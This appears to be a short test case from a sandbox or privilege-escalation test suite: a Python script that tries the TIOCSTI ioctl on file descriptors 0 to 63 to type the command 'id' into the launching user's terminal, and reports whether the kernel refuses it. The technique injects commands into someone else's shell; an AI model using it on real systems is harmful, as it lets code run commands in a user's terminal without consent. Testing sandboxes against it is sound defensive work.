"""Type a command into the terminal of whoever started this.

category: privilege
ends: ok
control: would need a terminal
"""

import fcntl

for fd in range(0, 64):
    for letter in "id\n":
        try:
            fcntl.ioctl(fd, 0x5412, letter.encode())
            print(host.proof, "typed into", fd)
        except OSError:
            pass
print("refused: TIOCSTI")
